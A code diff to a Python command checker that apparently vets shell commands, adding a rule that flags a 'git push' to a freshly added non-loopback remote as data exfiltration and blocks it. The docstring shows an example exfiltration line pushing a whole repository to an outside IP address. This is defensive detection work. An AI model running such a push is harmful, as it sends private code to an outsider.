@@ -259,6 +259,7 @@ class Judge:
         for loop in parsed.busy_loops:
             out.add("resource.busy_loop", Decision.BLOCK, loop)
         downloaded: set[str] = set()
+        remotes: dict[str, str] = {}
         backups = Backups()
         for cmd in parsed.commands:
             text = _display(cmd)
@@ -267,6 +268,7 @@ class Judge:
             chain = self.command(cmd, out, depth, text)
             backups.review(cmd, out.reasons, start)
             _track_downloads(cmd, downloaded, out, self.rules.examples, chain)
+            _track_remotes(cmd, remotes, out, chain)
 
     # ---- one simple command -----------------------------------------------------------
     def command(
@@ -1083,6 +1085,24 @@ def _installed_files(name: str, args: Sequence[str]) -> list[str]:
     if name in _INSTALLERS and "install" in operands:
         return operands[operands.index("install") + 1 :]
     return []
+
+
+def _track_remotes(
+    cmd: SimpleCommand, remotes: dict[str, str], out: Findings, chain: Unwrapped | None
+) -> None:
+    """`git remote add x https://198.51.100.3/r.git && git push x --all`: a push to a remote
+    added on the same line goes where the URL says, as `git push URL` does (a sink)."""
+    if chain is None or chain.inner.name != "git":
+        return
+    words = [w.value for w in chain.inner.args]
+    pos = [w for i, w in enumerate(words) if not w.startswith("-")
+           and not (i and words[i - 1] in ("-C", "-c", "--git-dir", "--work-tree"))]
+    if pos[:2] == ["remote", "add"] and len(pos) >= 4:
+        remotes[pos[2]] = pos[3]
+    elif pos[:1] == ["push"] and len(pos) >= 2 and pos[1] in remotes:
+        url = remotes[pos[1]]
+        if not sinks.to_loopback("curl", [Word(url, url)]):
+            out.add("net.exfiltration", Decision.BLOCK, _display(cmd), payload=f"push to {url}")
 
 
 def _into_login(cmd: SimpleCommand) -> bool:
